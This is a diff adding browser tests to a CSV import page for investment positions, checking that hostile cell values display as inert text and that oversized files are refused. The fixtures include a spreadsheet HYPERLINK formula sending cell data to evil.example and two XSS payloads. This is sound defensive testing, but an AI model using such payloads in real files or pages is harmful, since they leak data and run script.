@@ -120,3 +120,33 @@ def test_everyone_can_use_it(settings_page, violations):
     card(page).locator("[data-part=header] summary").click()
     assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
     assert violations(page) == []
+
+
+HOSTILE = {
+    "formula": '=HYPERLINK("http://evil.example/?"&A1;"x")',
+    "markup": "<img src=x onerror=alert(1)>",
+    "closed markup": "</td></table><script>alert(1)</script>",
+}
+
+
+def test_cells_that_would_be_formulas_or_markup_are_shown_as_they_stand(settings_page):
+    """Whatever the page asked elsewhere, ran or refused would be a complaint at its end."""
+    page = settings_page()
+    rows = "".join(f'"{cell.replace(chr(34), chr(34) * 2)}";DE000000000{at};1;2,00;EUR\n' for at, cell in enumerate(HOSTILE.values()))  # fmt: skip
+    by_hand(page, HEAD + rows, {"isin": 1, "quantity": 2, "value": 3, "name": 0, "currency": 4})
+    found = card(page)
+    expect(found.locator(READ)).to_have_text("3 positions", use_inner_text=True)
+    for cell in HOSTILE.values():
+        expect(found.get_by_text(cell).first).to_be_attached()
+    assert found.locator("img, script, a[href*=evil]").count() == 0
+    save(found)
+    comes_to(page, lambda: len(kept(page)["pies"][0]["positions"]), 3)
+    assert sent(page) == []
+
+
+def test_file_that_is_one_endless_line_is_refused_at_once(settings_page):
+    page = settings_page()
+    choose(page, ("words.csv", "ab " * 1_700_000), ("columns.csv", "Name," * 100_000 + "\n" + "1," * 100_000))
+    for number in (0, 1):
+        expect(card(page, number).locator('[data-say="error"]')).to_contain_text("No header", timeout=15_000)
+    assert sent(page) == []
